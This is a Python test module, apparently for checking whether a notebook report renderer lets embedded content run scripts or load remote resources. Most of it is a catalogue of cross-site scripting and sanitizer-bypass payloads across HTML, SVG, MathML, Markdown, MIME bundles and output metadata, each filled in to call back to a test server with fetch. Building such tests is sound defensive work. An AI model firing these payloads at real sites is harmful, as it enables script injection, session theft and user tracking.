"""Attempts of a notebook to run code in the page of its report, or to call home from there.

In each ``@J`` is a script that tells ``window.pwned`` and a web server of the attempt's number,
``@B`` a URL of that server with the number, ``@T`` a whole document that runs the script. Sources:
OWASP's cheat sheet on filter evasion, html5sec.org, published bypasses of DOMPurify, bleach,
Ammonia and nbconvert (CVE-2021-32862), and the elements and attributes of the HTML standard that
load something.
"""

from __future__ import annotations

import base64
import html
from urllib.parse import quote

CLASSIC = {
    "script": "<script>@J</script>",
    "script in capitals": "<SCRIPT>@J</SCRIPT>",
    "script with a source": '<script src="@B"></script>',
    "script module": '<script type="module">@J</script>',
    "image onerror": '<img src="x:x" onerror="@J">',
    "image with slashes": '<img/src="x:x"/onerror=@J>',
    "svg onload": '<svg onload="@J"></svg>',
    "svg script": "<svg><script>@J</script></svg>",
    "iframe srcdoc": '<iframe srcdoc="@T"></iframe>',
    "iframe javascript": '<iframe src="javascript:@J"></iframe>',
    "iframe data": '<iframe src="data:text/html,@Q"></iframe>',
    "iframe remote": '<iframe src="@B"></iframe>',
    "iframe onload": '<iframe onload="@J"></iframe>',
    "style onload": '<style onload="@J">p{}</style>',
    "details ontoggle": '<details open ontoggle="@J">d</details>',
    "input onfocus": '<input autofocus onfocus="@J">',
    "video source onerror": '<video><source src="x:x" onerror="@J"></video>',
    "remote image": '<img src="@B">',
    "remote stylesheet": '<link rel="stylesheet" href="@B">',
    "style import": '<style>@import "@B";</style>',
    "style attribute": '<div style="background:url(@B)">b</div>',
    "link javascript": '<a href="javascript:@J">l</a>',
    "onclick": '<b onclick="@J">b</b>',
    "onmouseover": '<b onmouseover="@J">b</b>',
}
"""What fires in any page that takes HTML as it is."""

HTML = {
    **CLASSIC,
    # Scripts that are written in odd ways
    "script after a tag that is none": "<<script>@J//<</script>",
    "script in a script": "<scr<script></script>ipt>@J</scr<script></script>ipt>",
    "script in a quoted attribute": '<img """><script>@J</script>">',
    "script with a tab": "<script\t>@J</script\t>",
    "script with junk": "<script x='>' y>@J</script x>",
    "script without an end": "<b><script>@J</b></script>",
    "script of a null": "<scr\0ipt>@J</scr\0ipt><script\0>@J</script>",
    "script of entities": "&lt;script&gt;@J&lt;/script&gt;",
    "script by document type": '<script type="text/ecmascript" language="x">@J</script>',
    "script data": '<script src="data:text/javascript,@QJ"></script>',
    # Events
    "body onload": '<body onload="@J">',
    "body onpageshow": '<body onpageshow="@J">',
    "frameset": '<frameset onload="@J"><frame src="javascript:@J"></frameset>',
    "audio onerror": '<audio src="x:x" onerror="@J"></audio>',
    "video onloadstart": '<video src="x:x" onloadstart="@J"></video>',
    "object onerror": '<object data="x:x" onerror="@J"></object>',
    "marquee onstart": '<marquee onstart="@J">m</marquee>',
    "animation": "<style>@keyframes k{}</style>"
                 '<p style="animation-name:k" onanimationstart="@J">p</p>',
    "transition": '<p style="transition:color 1s" ontransitionend="@J">p</p>',
    "popover": '<button popovertarget="pop@N">b</button>'
               '<x id="pop@N" popover onbeforetoggle="@J">x</x>',
    "unknown tag": '<xss onfocus="@J" tabindex="1" autofocus>x</xss>',
    "event with a newline": '<img src="x:x" \n onerror\n=\n"@J">',
    "event after a form feed": '<img src="x:x"\fonerror="@J">',
    "event in capitals": '<IMG SRC="x:x" ONERROR="@J">',
    "event after a quote": '<img src="x:x"onerror="@J">',
    "event with entities": '<img src="x:x" onerror="@E">',
    "event in an end tag": '</p onclick="@J"><b onmousemove=@J>b',
    "dialog": '<dialog open onscroll="@J" onmouseenter="@J">d</dialog>',
    "content visibility": '<p oncontentvisibilityautostatechange="@J" '
                          'style="content-visibility:auto">p</p>',
    "hidden input": '<input type="hidden" oncontentvisibilityautostatechange="@J" '
                    'style="content-visibility:auto">',
    "alert": '<img src="x:x" onerror="alert(@N)">',
    # URLs that are scripts
    "link with a tab": '<a href="java\tscript:@J">l</a>',
    "link with an entity": '<a href="java&#9;script&colon;@J">l</a>',
    "link with a control": '<a href="\x01javascript:@J">l</a>',
    "link with spaces": '<a href="  javascript:@J">l</a>',
    "link in capitals": '<a href="JaVaScRiPt:@J">l</a>',
    "link vbscript": '<a href="vbscript:@J">l</a>',
    "link data": '<a href="data:text/html,@Q" target="_self">l</a>',
    "link blob": '<a href="blob:@B">l</a>',
    "link with a target": '<a href="javascript:@J" target="_blank">l</a>',
    "link with a ping": '<a href="#x" ping="@B">l</a>',
    "link in a drawing": '<svg><a xlink:href="javascript:@J"><text y="9">l</text></a></svg>',
    "link in math": '<math href="javascript:@J"><mi xlink:href="javascript:@J">l</mi></math>',
    "area": '<map name="m"><area href="javascript:@J" shape="default"></map><img usemap="#m">',
    "form action": '<form action="javascript:@J"><button>b</button></form>',
    "form remote": '<form action="@B"><button>b</button></form>',
    "formaction": '<form><button formaction="javascript:@J">b</button></form>',
    "form attribute": '<form id="f@N"></form>'
                      '<button form="f@N" formaction="javascript:@J">b</button>',
    "input image": '<form><input type="image" formaction="javascript:@J" src="@B"></form>',
    "isindex": '<isindex type="image" src="1" onerror="@J" action="javascript:@J">',
    "object javascript": '<object data="javascript:@J"></object>',
    "object data": '<object data="data:text/html,@Q"></object>',
    "embed data": '<embed src="data:text/html,@Q">',
    "embed svg": '<embed src="data:image/svg+xml;base64,@S" type="image/svg+xml">',
    "object param": '<object><param name="src" value="javascript:@J"></object>',
    "applet": '<applet code="javascript:@J" archive="@B"></applet>',
    "iframe with a tab": '<iframe src="jAva\tScript:@J"></iframe>',
    "iframe svg": '<iframe src="data:image/svg+xml;base64,@S"></iframe>',
    "iframe srcdoc entities": '<iframe srcdoc="&lt;svg onload=@J&gt;"></iframe>',
    "image javascript": '<img src="javascript:@J"><image src="javascript:@J">',
    # Drawings
    "svg animate": '<svg><animate onbegin="@J" attributeName="x" dur="1s"></svg>',
    "svg animate a link": '<svg><a><animate attributeName="href" values="javascript:@J"/>'
                          '<text y="9">l</text></a></svg>',
    "svg set": '<svg><a><set attributeName="href" to="javascript:@J"/>'
               '<text y="9">l</text></a></svg>',
    "svg use": '<svg><use href="data:image/svg+xml;base64,@S#x"/></svg>',
    "svg use remote": '<svg><use href="@B#x"/></svg>',
    "svg image": '<svg><image href="@B" width="9" height="9"/></svg>',
    "svg feImage": '<svg><filter id="g@N"><feImage href="@B"/></filter>'
                   '<rect filter="url(#g@N)" width="9" height="9"/></svg>',
    "svg foreignObject": '<svg><foreignObject><iframe srcdoc="@T"></iframe>'
                         '<img src="x:x" onerror="@J"></foreignObject></svg>',
    "svg style": "<svg><style>@import '@B';</style></svg>",
    "svg handler": '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" '
                   'ev:event="load">@J</handler></svg>',
    "svg without an end": '<svg><g onload="@J"/><svg onload="@J">',
    "svg end in an attribute": '<svg x="</svg><img src=x:x onerror=@J>">',
    "svg in another": '<svg><svg></svg><script>@J</script></svg><svg/onload="@J">',
    "svg data image": '<img src="data:image/svg+xml;base64,@S">',
    "svg data text": '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22'
                     ' onload=%22@J%22/>">',
    # What parsers read in different ways
    "noscript": '<noscript><p title="</noscript><img src=x:x onerror=@J>"></noscript>',
    "math and mglyph": "<math><mtext><table><mglyph><style><!--</style>"
                       '<img title="--&gt;&lt;img src=x:x onerror=@J&gt;">',
    "form in math": "<form><math><mtext></form><form><mglyph><style></math>"
                    "<img src=x:x onerror=@J>",
    "svg end of a paragraph": '<svg></p><style><a id="</style><img src=x:x onerror=@J>">',
    "math annotation": '<math><annotation-xml encoding="text/html"><style>'
                       "<img src=x:x onerror=@J></style></annotation-xml></math>",
    "math maction": '<math><maction actiontype="statusline#http://x" xlink:href="javascript:@J">'
                    "m</maction></math>",
    "template": "<template><script>@J</script><img src=x:x onerror=@J></template>",
    "template with a shadow root": '<div><template shadowrootmode="open"><img src=x:x onerror=@J>'
                                   "<style>@import '@B';</style></template></div>",
    "xmp": '<xmp><p title="</xmp><img src=x:x onerror=@J>"></xmp>',
    "textarea": '<textarea><p title="</textarea><img src=x:x onerror=@J>"></textarea>',
    "title": '<title><p title="</title><img src=x:x onerror=@J>"></title>',
    "style": '<style><p title="</style><img src=x:x onerror=@J>"></style>',
    "noembed": '<noembed><p title="</noembed><img src=x:x onerror=@J>"></noembed>',
    "noframes": '<noframes><p title="</noframes><img src=x:x onerror=@J>"></noframes>',
    "iframe text": '<iframe><p title="</iframe><img src=x:x onerror=@J>"></iframe>',
    "select": "<select><style></select><img src=x:x onerror=@J></style></select>",
    "option": "<select><option><iframe></select><b><script>@J</script>",
    "comment at once closed": "<!--><img src=x:x onerror=@J>-->",
    "comment closed by a bang": "<!-- --!><img src=x:x onerror=@J>-->",
    "comment in a comment": "<!--<!--><img src=x:x onerror=@J>-->",
    "conditional comment": "<!--[if gte IE 4]><script>@J</script><![endif]-->"
                           "<![if true]><img src=x:x onerror=@J><![endif]>",
    "CDATA": "<![CDATA[><img src=x:x onerror=@J>]]>",
    "CDATA in a drawing": "<svg><![CDATA[><img src=x:x onerror=@J>]]></svg>",
    "processing instruction": "<?xml-stylesheet href='javascript:@J'?><?><img src=x:x onerror=@J>",
    "table": "<table><td><form><table><td></form></table><img src=x:x onerror=@J>",
    "table background": '<table background="@B"><td background="@B">t</td></table>',
    "backticks": "<img alt=``onerror=@J src=x:x>",
    "odd attribute": '<div id=1 =">" title="x"/onclick=@J><img src=x:x =`"`onerror=@J>d</div>',
    "quotes that do not close": '<a title="x" \'="><img src=x:x onerror=@J>l</a>',
    "entity without an end": '<img src="x:x&quot onerror=@J"><a title="&quot;onclick=@J">l</a>',
    "attribute that holds a tag": '<a title="<!--" href="--><img src=x:x onerror=@J>">l</a>',
    "nested formatting": "<b><i><a><p><b><a><img src=x:x onerror=@J></i></a></b>",
    # What loads
    "image set": '<img srcset="@B 1x, @B 2x" src="data:,">',
    "image without a scheme": '<img src="//127.0.0.1:@P/@N">',
    "image with a backslash": '<img src="\\\\127.0.0.1:@P\\@N">',
    "image with a newline": '<img src="ht\ntp://127.0.0.1:@P/@N">',
    "image dynsrc": '<img dynsrc="@B" lowsrc="@B" src="@B">',
    "picture": '<picture><source srcset="@B"><img alt="x"></picture>',
    "video": '<video src="@B" poster="@B" autoplay><track src="@B" default></video>',
    "audio": '<audio src="@B" autoplay preload="auto"></audio>',
    "input": '<input type="image" src="@B">',
    "object": '<object data="@B"></object>',
    "embed": '<embed src="@B">',
    "link prefetch": '<link rel="prefetch" href="@B"><link rel="preload" as="image" href="@B">',
    "link icon": '<link rel="icon" href="@B"><link rel="shortcut icon" href="@B">',
    "link modulepreload": '<link rel="modulepreload" href="@B">',
    "link manifest": '<link rel="manifest" href="@B">',
    "link import": '<link rel="import" href="@B"><link rel="prerender" href="@B">',
    "link onload": '<link rel="stylesheet" href="data:text/css," onload="@J">',
    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["@B"]}]}</script>',
    "import map": '<script type="importmap">{"imports":{"x":"@B"}}</script>'
                  '<script type="module">import "x"</script>',
    "style font": "<style>@font-face{font-family:f@N;src:url(@B)}p{font-family:f@N}</style>"
                  "<p>f</p>",
    "style list": '<ul style="list-style-image:url(@B)"><li>l</li></ul>',
    "style cursor": '<b style="cursor:url(@B),auto">b</b>',
    "style content": "<style>.c@N::before{content:url(@B)}</style><b class=c@N>b</b>",
    "style image set": '<div style="background-image:image-set(\'@B\' 1x);height:9px">b</div>',
    "style with an escape": '<div style="background:u\\72l(@B)">b</div>',
    "style border": '<div style="border-image:url(@B) 1;border:9px solid">b</div>',
    "style mask": '<div style="mask:url(@B);-webkit-mask:url(@B)">b</div>',
    "style filter": '<div style="filter:url(@B#x)">b</div>',
    "style variable": '<div style="--u:url(@B);background:var(--u)">b</div>',
    "style reads attributes": '<style>main{background:url(@B)}[class^="jp"]{background:url(@B)}'
                              "</style>",
    "style expression": '<div style="width:expression(@J);behavior:url(@B);-moz-binding:url(@B)">'
                        "b</div>",
    "svg in a style": "<style>main{background:url('data:image/svg+xml;base64,@S')}</style>",
}  # fmt: skip

ALONE = {
    "refresh": '<meta http-equiv="refresh" content="0;url=@B">',
    "refresh to a script": '<meta http-equiv="refresh" content="0;url=javascript:@J">',
    "refresh to data": '<meta http-equiv="refresh" content="0;url=data:text/html,@Q">',
    "base": '<base href="@B/"><img src="x">',
    "base with a link": '<base href="javascript:/a/-@J/"><a href=".">l</a>',
    "plaintext": "<plaintext><img src=x:x onerror=@J>",
    "comment without an end": "<script>@J</script><!--",
    "attribute without an end": "<script>@J</script><img src='@B?",
    "style without an end": "<script>@J</script><style>*{display:none}",
    "textarea without an end": '<form action="@B"><button>b</button><textarea name=t>',
    "title without an end": "<script>@J</script><title>",
    "many ends": "</div></div></div></div></div></main></body></html><script>@J</script>",
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">'
              "<script>@J</script>",
    "overlay": '<a href="javascript:@J" style="position:fixed;inset:0;z-index:9999">x</a>',
    "overlay by a class": '<div class="jp-Dialog"><a href="@B">x</a></div><script>@J</script>',
}  # fmt: skip
"""What takes the page away, or swallows what comes after it: each has a page of its own."""

MARKDOWN = {
    "link": "[l](javascript:@J)",
    "link with a space": "[l]( javascript:@J)",
    "link in brackets": "[l](<javascript:@J>)",
    "link with an entity": "[l](java&#115;cript:@J)",
    "link with a newline": "[l](java&NewLine;script:@J)",
    "link data": "[l](data:text/html;base64,@64)",
    "link title": '[l](#x "t" onmouseover="@J")',
    "link title quote": "[l](#x 't\" onmouseover=\"@J')",
    "link address quote": '[l](#x"onmouseover="@J)',
    "reference": "[l][r@N]\n\n[r@N]: javascript:@J",
    "reference title": "[l][r@N]\n\n[r@N]: #x 'a\" onmouseover=\"@J'",
    "autolink": "<javascript:@J>",
    "image": "![i](@B)",
    "image quote": '![i](x:x"onerror="@J)',
    "image text quote": '![i"onerror="@J](x:x)',
    "image title": "![i](x:x 'a\" onerror=\"@J')",
    "image reference": "![i][r@N]\n\n[r@N]: @B",
    "heading": '# h" onclick="@J\n\n## <img src=x:x onerror=@J>',
    "fence": '```python"><script>@J</script>\nx\n```',
    "fence of nothing known": "```<script>@J</script>\nx\n```",
    "mermaid": '```mermaid\n<img src=x:x onerror=@J>\nclick A "javascript:@J"\n```',
    "code": "`<img src=x:x onerror=@J>`",
    "indented code": "    <script>@J</script>",
    "math": "$<img src=x:x onerror=@J>$ and $$<script>@J</script>$$",
    "math of TeX": r"$\href{javascript:@J}{x}\unicode{<img src=x:x onerror=@J>}$",
    "math environment": "\\begin{align}<img src=x:x onerror=@J>\\end{align}",
    "table": "| a |\n|---|\n| <img src=x:x onerror=@J> |",
    "footnote": "a[^f@N]\n\n[^f@N]: <img src=x:x onerror=@J>",
    "list": "- <script>@J</script>\n- [ ] <img src=x:x onerror=@J>",
    "block of HTML": "<div>\n\n<script>@J</script>\n\n**b**</div>",
    "HTML in a link": "[<img src=x:x onerror=@J>](#x)",
    "attachment that is missing its quotes": "![i](attachment:q.png)",
    "attachment of HTML": "[l](attachment:h.html) ![i](attachment:h.html)",
    "attachment of a drawing": "![i](attachment:s.svg)",
}

ATTACHMENTS = {
    "q.png": {'image/png;x" onerror="@J': "AA"},
    "h.html": {"text/html": "@64"},
    "s.svg": {"image/svg+xml": "@S"},
}

BUNDLES = {
    "javascript": {"application/javascript": "@J"},
    "javascript of another name": {"text/javascript": "@J", "application/x-javascript": "@J"},
    "markdown": {"text/markdown": "<script>@J</script>[l](javascript:@J)"},
    "svg": {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="@J"/>'},
    "svg script": {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg">'
                                    '<script>@J</script><image href="@B"/></svg>'},
    "svg that is HTML": {"image/svg+xml": '"><script>@J</script><img src=x:x onerror=@J>'},
    "latex": {"text/latex": r"$\href{javascript:@J}{x}$ <img src=x:x onerror=@J>"},
    "json": {"application/json": {"<script>@J</script>": "<img src=x:x onerror=@J>"}},
    "plain": {"text/plain": "<script>@J</script>\x1b[31m<img src=x:x onerror=@J>"},
    "png": {"image/png": '"><script>@J</script><img src=x:x onerror="@J'},
    "jpeg": {"image/jpeg": 'AA" onerror="@J'},
    "gif": {"image/gif": 'AA" onerror="@J'},
    "png of HTML": {"image/png": "@64"},
    "mermaid": {"text/vnd.mermaid": "</pre><script>@J</script>"},
    "pdf": {"application/pdf": "@64"},
    "widget": {"application/vnd.jupyter.widget-view+json":
               {"model_id": "</script><script>@J</script>", "version_major": 2}},
    "vega": {"application/vnd.vegalite.v5+json": {"usermeta": {"x": "</script><script>@J</script>"},
                                                  "data": {"url": "@B"}, "mark": "bar"}},
    "plotly": {"application/vnd.plotly.v1+json": {"data": [{"text": "<img src=x:x onerror=@J>"}]},
               "text/html": '<div id="p@N"></div><script>@J</script>'},
    "bokeh": {"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": "@J",
              "text/html": '<div data-root-id="1"></div>'},
    "unknown": {"application/x\"><script>@J</script>": "<script>@J</script>"},
    "HTML with parameters": {"text/html; charset=utf-8": "<script>@J</script>"},
    "HTML as a list": {"text/html": ["<scr", "ipt>@J</scr", "ipt>"]},
}  # fmt: skip

OUTPUT_METADATA = {
    "width": {"image/png": {"width": "1 onerror=@J", "height": '1"><script>@J</script>'}},
    "file names": {"filenames": {"image/png": "@B"}},
    "unconfined": {"image/png": {"unconfined": '"><script>@J</script>'}},
}


def script(number: int, url: str) -> str:
    """A script without spaces, quotes or angle brackets, so that it stands anywhere."""
    return (
        f"(top.pwned=top.pwned||{{}})[{number}]=1;"
        f"fetch(`{url}/{number}`,{{mode:`no-cors`}})"
    )  # fmt: skip


def made(text: str, number: int, url: str) -> str:
    """A payload with its number, reporting to ``url``."""
    run = script(number, url)
    # The frame of another origin cannot reach `top`, but it can call home.
    document = f"<script>fetch(`{url}/{number}`,{{mode:`no-cors`}});{run}</script>"
    inside = f'id="x" onload="{run}"><script>{run}</script>'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" {inside}</svg>'
    values = {
        "@QJ": quote(run),
        "@Q": quote(document),
        "@T": html.escape(document),
        "@E": "".join(f"&#{ord(character)};" for character in run),
        "@S": base64.b64encode(svg.encode()).decode(),
        "@64": base64.b64encode(document.encode()).decode(),
        "@J": run,
        "@B": f"{url}/{number}",
        "@P": url.rsplit(":", 1)[1],
        "@N": str(number),
    }
    for mark, value in values.items():
        text = text.replace(mark, value)
    return text
